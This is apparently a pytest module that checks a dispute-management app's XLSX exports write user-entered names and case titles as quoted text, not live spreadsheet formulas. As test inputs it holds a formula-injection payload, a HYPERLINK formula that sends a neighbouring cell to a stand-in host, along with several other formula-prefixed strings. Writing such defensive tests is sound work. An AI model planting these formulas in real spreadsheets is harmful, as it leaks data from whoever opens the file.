"""Formula injection in XLSX exports (issue 13, item 3): text a user typed — an org kind's name,
a case title — reaches the reader of an export as the text it is, never as a live formula
(``=HYPERLINK("http://…?leak="&B5, …)`` would send the neighbouring cell to anyone's server
once opened). Every export writes through ``core.xlsx``, which stores such text as quoted text."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

import fengqiao
from fengqiao.disputes.tests.test_views_common import east_case

# (within OrgKind.name's 50 characters)
LEAK = '=HYPERLINK("http://x.invalid/?q="&B5,"点我")'


def _cells(response: Any) -> list[Any]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(io.BytesIO(response.getvalue()))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _as_text(cells: list[Any], value: str) -> None:
    """No cell is a formula; the cells holding ``value`` hold it as quoted text."""
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    holding = [c for c in cells if c.value == value]
    assert holding, f"{value!r} is not in the export"
    for cell in holding:
        assert cell.data_type == "s"
        assert cell.quotePrefix, cell.coordinate


@pytest.mark.parametrize("report", ["composition", "staffing"])
def test_an_org_kind_named_like_a_formula_is_exported_as_text(
    cast: Any, world: Any, client_for: Any, report: str
) -> None:
    # given the kind of 东村's committee renamed to a formula (reference data an administrator
    # or an import can set)
    kind = world.committee_east.kind
    kind.name = LEAK
    kind.save()
    # when the dispatcher exports the 队伍建设 report
    response = client_for(cast.dispatcher).get(f"/orgs/reports/?report={report}&format=xlsx")
    # then the name is a text cell in every row of that kind, not a live link
    _as_text(_cells(response), LEAK)


@pytest.mark.parametrize("title", [LEAK, "+86 138", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"])
def test_a_case_title_like_a_formula_is_exported_as_text(
    cast: Any, world: Any, client_for: Any, title: str
) -> None:
    case = east_case(cast, world, title=title)
    case.refresh_from_db()  # (the service strips the leading tab or CR)
    response = client_for(cast.dispatcher).get("/ledgers/cases/")
    _as_text(_cells(response), case.title)


def test_only_the_export_helper_writes_workbooks() -> None:
    # A new export that built its own workbook would skip the quoting: openpyxl is imported by
    # core/xlsx.py alone (tests aside).
    root = Path(fengqiao.__file__).parent
    writers = sorted(
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "tests" not in path.parts
        and "openpyxl" in path.read_text(encoding="utf-8")
        and path.relative_to(root) != Path("core/xlsx.py")
    )
    assert writers == []
